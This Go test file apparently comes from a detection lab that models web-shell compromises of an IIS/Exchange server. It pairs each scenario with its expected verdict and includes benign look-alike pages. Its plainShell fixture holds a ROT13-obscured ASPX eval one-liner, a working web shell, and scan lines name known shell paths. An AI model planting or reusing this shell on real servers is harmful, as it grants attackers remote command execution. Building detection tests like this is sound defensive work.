package lab

import "time"

const (
	plainPage = "/aspnet_client/help9.aspx"
	plainDisk = `C:\inetpub\wwwroot\aspnet_client\help9.aspx`
)

// plainShell is the page itself: it runs what a request sends.
func plainShell() []byte {
	return []byte(turned("<%@ Cntr Ynathntr=\"Wfpevcg\"%>\r\n<%riny(Erdhrfg.Vgrz[\"c9\"],\"hafnsr\");%>\r\n"))
}

func webShellScenarios() []Scenario {
	c := &chapter{chain: "webshell"}
	p := play{day: "2025-11-05", build: Build{15, 2, 1748, 39}}
	full := p
	full.acts = func(s *server) {
		s.created(p.at("12:01:00.500"), worker, plainDisk, 6832)
		s.placed("inetpub/wwwroot"+plainPage, plainShell())
		s.useShell(p.at("12:02:00.100"), plainPage, intruder)
	}
	told := func(deepest, first, last string, from ...string) ChainWant {
		return p.won("webshell", "compromised", deepest, first, first, last, from...)
	}
	all := told("shell-file", "12:01:00.500", "12:02:30.100", intruder)
	c.tell(KindFull, "full", "No door is known, but the page runs what it is sent by its structure, and it was used.", full.evidence(whole), compromised(all))
	for _, w := range [][2]string{{"security", "Sysmon shows the same command"}} {
		c.tell(KindMissing, "without-"+w[0], "One source is missing: "+w[1]+".", full.evidence(without(w[0])), compromised(all))
	}
	c.tell(KindMissing, "without-sysmon", "When the page was written is not shown; what it is and that it was used is.", full.evidence(without("sysmon")), compromised(told("shell-file", "12:02:00.100", "12:02:30.100", intruder)))
	c.tell(KindMissing, "without-files", "The page is not handed over; the web server started a command in the second in which it was used.", full.evidence(without("files")), compromised(told("page-created", "12:01:00.500", "12:02:30.100", intruder)))
	c.tell(KindMissing, "without-iis", "A page with the structure of a shell was written where it is served; it lies where only the product puts pages, and the web server ran a command.", full.evidence(without("iis")), compromised(told("shell-file", "12:01:00.500", "12:01:00.500")))
	c.tell(KindMissing, "only-files", "A page with the structure of a shell lies where only the product puts pages: somebody planted it, whether it was used or not.", full.evidence(only("files")), compromised(ChainWant{ID: "webshell", Grade: "compromised", Deepest: "shell-file"}))
	elsewhere := p
	elsewhere.acts = func(s *server) { s.placed("inetpub/wwwroot/shop/img/help9.aspx", plainShell()) }
	c.tell(KindMissing, "only-files-of-a-site", "A page with the structure of a shell lies in a site's own folder, and nothing shows that it was used: a person must look.", elsewhere.evidence(only("files")), suspicious())
	c.tell(KindMissing, "only-iis", "A page that no product ships was used, and nothing shows what it is.", full.evidence(only("iis")), suspicious())
	c.rest(full, compromised(all))
	answered := p
	answered.acts = func(s *server) {
		s.visit(p.at("12:02:00.100"), "GET", "/owa/auth/help9.aspx", "", intruder, 200)
		s.scan(p.at("12:02:02"), visitor, "Mozilla/5.0 zgrab/0.x", 404, "/owa/auth/shel90.aspx", "/owa/auth/getpp.aspx")
	}
	c.tell(KindPartial, "answered", "A page that no product ships answered a plain request while other names were refused; nothing shows what it is.", answered.evidence(whole), suspicious())
	scan := p
	scan.acts = func(s *server) {
		s.scan(p.at("12:02:02"), visitor, "Mozilla/5.0 zgrab/0.x", 404, "/owa/auth/shel90.aspx", "/owa/auth/getpp.aspx", "/aspnet_client/discover.aspx", "/aspnet_client/supp0rt.aspx", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx")
		s.visit(p.at("12:05:00"), "POST", "/owa/auth/one1.aspx", "", visitor, 302)
	}
	c.tell(KindAttempt, "scanned", "Names of known shells were asked for and refused: nobody got anything, and asking for a page is no step of a chain.", scan.evidence(whole), nothingFound())
	captcha := p
	captcha.acts = func(s *server) {
		s.visit(p.at("08:00:00"), "POST", "/owa/auth/recaptcha.aspx", "", "198.51.100.20", 200)
		s.visit(p.at("08:10:00"), "POST", "/owa/auth/recaptcha.aspx", "", "198.51.100.23", 200)
		s.scan(p.at("12:02:02"), visitor, "Mozilla/5.0 zgrab/0.x", 404, "/owa/auth/shel90.aspx")
		s.placed("Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/recaptcha.aspx", captchaPage())
	}
	c.tell(KindBenign, "captcha", "An add-on's sign-in page takes what is typed and asks a service about it: at most a person should look, and never a compromise.", captcha.evidence(whole), suspicious())
	busy := p
	busy.acts = func(s *server) {
		for i := range 900 {
			s.visit(p.at("06:00:00").Add(time.Duration(i)*40*time.Second), "POST", "/owa/auth/recaptcha.aspx", "", "198.51.100.20", 200)
		}
		s.spawned(p.at("09:00:01"), system32+"cmd.exe", "cmd.exe /c C:\\Tools\\rotate.cmd")
	}
	c.tell(KindBenign, "busy-page", "An add-on's page is used all day, and once the web server starts a command beside one of its requests by accident: a person must look, but nothing is shown.", busy.evidence(whole), suspicious())
	status := p
	status.acts = func(s *server) {
		s.placed("inetpub/wwwroot/aspnet_client/status.aspx", statusPage())
		s.placed("Users/Administrator/Documents/oab.txt", vdirDump(s, "https://"+s.host+"/OAB", demoGUID, p.at("09:12:44")))
		s.placed("Users/Administrator/Documents/export.pst", append([]byte("!BDN"), make([]byte, 600)...))
		s.created(p.at("04:00:00"), `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1f2e\App_Web_status.aspx.cdcab7d2.dll`, 9012)
	}
	c.tell(KindBenign, "own-pages", "An administrator's status page, a saved dump of settings, an exported mailbox and a compiled page: none has anything of a shell.", status.evidence(whole), nothingFound())
	return c.list
}

// captchaPage is an add-on's page: inline code that reads a form and asks a
// service.
func captchaPage() []byte {
	return []byte("<%@ Page Language=\"VB\" %>\r\n<script runat=\"server\">\r\nSub Page_Load(sender As Object, e As EventArgs)\r\n    Dim answer As String = Request(\"g-recaptcha-response\")\r\n" +
		"    Dim http As Object = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\r\n    http.Open(\"POST\", \"https://captcha.example/verify\", False)\r\n    http.Send(\"response=\" & Server.UrlEncode(answer))\r\n" +
		"    If InStr(http.ResponseText, \"true\") > 0 Then Response.Redirect(\"/owa/auth/logon.aspx\")\r\nEnd Sub\r\n</script>\r\n")
}
